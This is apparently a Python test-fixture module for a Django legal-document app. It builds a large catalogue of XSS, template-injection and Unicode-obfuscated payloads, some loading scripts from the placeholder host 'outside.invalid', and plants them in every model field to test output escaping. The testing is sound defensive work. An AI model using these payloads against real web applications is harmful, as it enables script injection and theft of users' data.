"""Hostile strings by families: what a document, a file name or a model could say to a browser; and a matter
in which every text is one of them.

`ran(N)` is what their scripts call, and `//outside.invalid/N` what they fetch; N tells which string it was.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import quote

from django.contrib.auth.models import Group, User
from django.contrib.sessions.models import Session
from django.utils import timezone

from knowledge import access, audit, generations, wordings
from knowledge.models import (
    Answer,
    Citation,
    Document,
    GroupMembership,
    Hold,
    Indexed,
    Matter,
    Membership,
    Page,
    Role,
    Run,
    SavedSearch,
    SignIn,
    Step,
    Verdict,
    Version,
    Wall,
)

AT_ONCE = 50  # quotes on a page; they are compared with each other
LONGEST = 150  # characters: a user name holds no more

TAGS = """
    <script>ran({n})</script>
    <script src=//outside.invalid/{n}></script>
    <ScRiPt>ran({n})</sCrIpT>
    <script/x>ran({n})</script >
    <script type=module>ran({n})</script>
    <svg onload=ran({n})>
    <svg><script>ran({n})</script></svg>
    <svg><image href=//outside.invalid/{n} />
    <svg><use href=//outside.invalid/{n}#x />
    <svg><animate onbegin=ran({n}) attributeName=x dur=1s>
    <svg><a href=javascript:ran({n})><text y=9>x</text></a>
    <math><mtext><table><mglyph><style><img src=x onerror=ran({n})>
    <math><a href=javascript:ran({n})>x</a></math>
    <img src=x onerror=ran({n})>
    <img src=//outside.invalid/{n}>
    <img srcset="//outside.invalid/{n} 2x">
    <picture><source srcset=//outside.invalid/{n}><img></picture>
    <img/src="x"/onerror="ran({n})">
    <img src=`x`onerror=ran({n})>
    <body onload=ran({n})>
    <body background=//outside.invalid/{n}>
    <table background=//outside.invalid/{n}>
    <iframe src=javascript:parent.ran({n})></iframe>
    <iframe src=//outside.invalid/{n}></iframe>
    <iframe srcdoc="<script>parent.ran({n})</script>"></iframe>
    <object data=//outside.invalid/{n}></object>
    <object data="data:text/html,<script>parent.ran({n})</script>"></object>
    <embed src=//outside.invalid/{n}>
    <link rel=stylesheet href=//outside.invalid/{n}>
    <link rel=prefetch href=//outside.invalid/{n}>
    <style>@import '//outside.invalid/{n}';</style>
    <style>*{{background:url(//outside.invalid/{n})}}</style>
    <p style="background:url(//outside.invalid/{n})">
    <p style="width:expression(ran({n}))">
    <meta http-equiv=refresh content="9;url=//outside.invalid/{n}">
    <base href=//outside.invalid/{n}/>
    <a href=javascript:ran({n})>x</a>
    <a href="java&#9;script:ran({n})">x</a>
    <a href="data:text/html,<script>opener.ran({n})</script>">x</a>
    <a href=vbscript:ran({n})>x</a>
    <a href=x ping=//outside.invalid/{n}>x</a>
    <details open ontoggle=ran({n})>
    <video src=x onerror=ran({n})></video>
    <video poster=//outside.invalid/{n}></video>
    <audio src=//outside.invalid/{n}></audio>
    <input autofocus onfocus=ran({n})>
    <input type=image src=//outside.invalid/{n}>
    <form action=//outside.invalid/{n}><button>x</button></form>
    <button formaction=javascript:ran({n})>x</button>
    <noscript><p title="</noscript><img src=x onerror=ran({n})>">
    <template><script>ran({n})</script></template>
    <div hx-get=//outside.invalid/{n} hx-trigger=load></div>
    <div hx-on:htmx:load="ran({n})" hx-on::load="ran({n})"></div>
    <div data-hx-get=//outside.invalid/{n} data-hx-trigger=load></div>
    <x onclick=ran({n}) tabindex=1 onfocus=ran({n}) autofocus>
    """.split("\n")
TEXTS = """
    ![x](//outside.invalid/{n})
    ![x](https://outside.invalid/{n} "t")
    [x](javascript:ran({n}))
    [x](//outside.invalid/{n})
    [x]: //outside.invalid/{n}
    <https://outside.invalid/{n}>
    javascript:ran({n})
    data:text/html,<script>ran({n})</script>
    &lt;script&gt;ran({n})&lt;/script&gt;
    &#60;img src=x onerror=ran({n})&#62;
    &amp;lt;script&amp;gt;ran({n})
    \\u003cscript\\u003eran({n})\\u003c/script\\u003e
    %3Cscript%3Eran({n})%3C/script%3E
    {{{{ ran({n}) }}}}
    {{% load static %}}{{% include "//outside.invalid/{n}" %}}
    {{{{ request.user.password }}}} {n}
    ${{ran({n})}} #{{ran({n})}} <%= ran({n}) %>
    \uff1cscript\uff1eran({n})\uff1c/script\uff1e
    <scr\u200bipt>ran({n})</scr\u200bipt>
    \u202e>tpircs<({n})nar
    \u2066<img src=x onerror=ran({n})>\u2069
    \u00ad<\ufeffscript>ran({n})</script>
    e\u0301<svg/onload=ran({n})>
    """.split("\n")
# What stands before, to get out of where the string is put.
OPENINGS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "--><!-- -->",
    "</script>",
    "]]>",
    '" x="',
    "</a></blockquote>",
)


def strings() -> list[str]:
    """Every tag in every place that it might have to get out of, and every text by itself."""
    return [made.format(n=number) for number, made in enumerate(_forms())]


def _forms() -> Iterator[str]:
    tags, texts = ([line.strip() for line in lines if line.strip()] for lines in (TAGS, TEXTS))
    for opening in OPENINGS:
        yield from (opening + tag for tag in tags)
    for text in texts:
        yield text
        yield f"' onmouseover='ran({{n}})' \" onfocus=\"ran({{n}})\" autofocus {text}"


STRINGS = strings()
EVERY = "\n".join(STRINGS)


@dataclass
class Shown:
    """A matter in which every text is hostile, and the addresses of the pages that show it."""

    reader: User
    paths: list[str]


def show() -> Shown:
    reader = User.objects.create_user("reader")
    reader.groups.add(Group.objects.get_or_create(name=access.AUDITORS)[0])
    matter = people(reader)
    versions = documents(matter)
    asked = answers(matter, reader, versions)
    running = runs(matter, reader, versions)
    for text in STRINGS[:100]:
        audit.record(audit.Act.SEARCH, matter_id=matter.pk, text=text, by=reader)
    signed_in(reader)
    keep = {"user": reader, "matter": matter}
    SavedSearch.objects.bulk_create([SavedSearch(**keep, name=text[:100], query=text) for text in STRINGS])
    base, listed = f"/matters/{matter.pk}", range(1, 1 + len(STRINGS) // 100)
    pages = [f"{base}/documents/?page={number}" for number in listed]
    searches = [f"{base}/search/?q={quote(text)}" for text in [*STRINGS[::150], '"outside invalid"']]
    documented = [f"/documents/{version.document_id}/" for version in versions[:2]]
    single = ["/", f"{base}/", f"{base}/access/", f"{base}/runs/", f"{base}/search/", "/audit/", "/sessions/"]
    return Shown(reader, [*single, *pages, *searches, *documented, *asked, *running])


def signed_in(reader: User) -> None:
    """From browsers that call themselves by each string."""
    ends = timezone.now() + timedelta(days=1)
    keys = [f"session-{number}" for number in range(len(STRINGS))]
    Session.objects.bulk_create([Session(session_key=key, session_data="", expire_date=ends) for key in keys])
    rows = [SignIn(user=reader, session_key=key, agent=text) for key, text in zip(keys, STRINGS, strict=True)]
    SignIn.objects.bulk_create(rows)


def people(reader: User) -> Matter:
    """A matter for each name; members, groups, walls and holds of the last one."""
    made = Matter.objects.bulk_create([Matter(name=text) for text in STRINGS])
    Membership.objects.bulk_create([Membership(matter=each, user=reader, role=Role.MANAGER) for each in made])
    matter = made[-1]
    users = User.objects.bulk_create([User(username=text, first_name=text) for text in STRINGS])
    groups = Group.objects.bulk_create([Group(name=text) for text in STRINGS])
    Membership.objects.bulk_create([Membership(matter=matter, user=each) for each in users])
    GroupMembership.objects.bulk_create([GroupMembership(matter=matter, group=each) for each in groups])
    against = {**dict.fromkeys(users, matter), reader: made[0]}
    Wall.objects.bulk_create([
        Wall(matter=against[user], user=user, reason=text, notice=text)
        for text, user in [*zip(STRINGS, users, strict=True), *((text, reader) for text in STRINGS)]
    ])  # fmt: skip
    Hold.objects.create(matter=matter, reason=EVERY)
    return matter


def documents(matter: Matter) -> list[Version]:
    """A file for each string as path, title, author, note and metadata; the first has them all in it."""
    rows = Document.objects.bulk_create([Document(matter=matter, path=text) for text in STRINGS])
    details: dict[str, Any] = {"size": 1, "state": Version.State.SEARCHABLE, "number": 1, "thread": "t"}
    versions = Version.objects.bulk_create([
        Version(document=row, sha256=f"{number:064}", title=text, author=text, custodian=text, note=text,
                media_type=text[:120], metadata={text: text}, **details)
        for number, (row, text) in enumerate(zip(rows, STRINGS, strict=True))
    ])  # fmt: skip
    for row, version in zip(rows, versions, strict=True):
        row.current = version
    Document.objects.bulk_update(rows, ["current"])
    here = generations.current()
    Indexed.objects.bulk_create([Indexed(version=version, generation=here) for version in versions])
    first = versions[0]
    first.metadata = {text: text for text in STRINGS}
    first.save()
    Page.objects.create(version=first, number=1, label="1", kind="text", start=0, text=EVERY)
    Page.objects.bulk_create([
        Page(version=first, number=number, label=text, kind="text", start=9**6 + number, text=text)
        for number, text in enumerate(STRINGS, start=2)
    ])  # fmt: skip
    wordings.keep(first)
    return versions


def answers(matter: Matter, reader: User, versions: list[Version]) -> list[str]:
    """What the model wrote, what it cites, why it failed; each string as a question after another."""
    base = {"matter": matter, "asker": reader}
    sentences = [{"text": text, "citations": [], "problem": text} for text in STRINGS]
    done: dict[str, Any] = {**base, "state": Answer.State.DONE}
    said = Answer.objects.create(**done, question=EVERY, sentences=sentences, model=EVERY[:200])
    cited = [Answer.objects.create(**done, question="q") for _ in STRINGS[::AT_ONCE]]
    Citation.objects.bulk_create([
        Citation(answer=cited[number // AT_ONCE], number=number, origin="key", version=version, quote=text,
                 page_label=text, page=1, start=0, end=1)
        for number, (version, text) in enumerate(zip(versions, STRINGS, strict=True))
    ])  # fmt: skip
    failed = Answer.objects.create(**base, question="q", state=Answer.State.FAILED, reason=EVERY)
    nothing = Answer.objects.create(**base, question=EVERY, state=Answer.State.NOTHING, reason=EVERY)
    Answer.objects.bulk_create([Answer(**done, question=text, follows=said) for text in STRINGS])
    return [f"/answers/{each.pk}/" for each in (said, failed, nothing, *cited[:2])]


def runs(matter: Matter, reader: User, versions: list[Version]) -> list[str]:
    """Verdicts with their notes, and the steps and the report of research."""
    base = {"matter": matter, "asker": reader, "question": EVERY, "note": EVERY, "state": Run.State.DONE}
    looked = Run.objects.create(**base, kind=Run.Kind.EVERY)
    Verdict.objects.bulk_create([
        Verdict(run=looked, document=version.document, version=version, number=number, value="no",
                note=version.title)
        for number, version in enumerate(versions, start=1)
    ])  # fmt: skip
    report = [{"heading": text, "lines": [{"text": text, "flag": text}]} for text in STRINGS]
    sought = Run.objects.create(**base, kind=Run.Kind.RESEARCH, report=report)
    Step.objects.bulk_create([
        Step(run=sought, number=number, kind="search", data={"told": text})
        for number, text in enumerate(STRINGS, start=1)
    ])  # fmt: skip
    pages = [f"/runs/{looked.pk}/?page={number}" for number in (1, 2)]
    return [*pages, f"/runs/{sought.pk}/"]
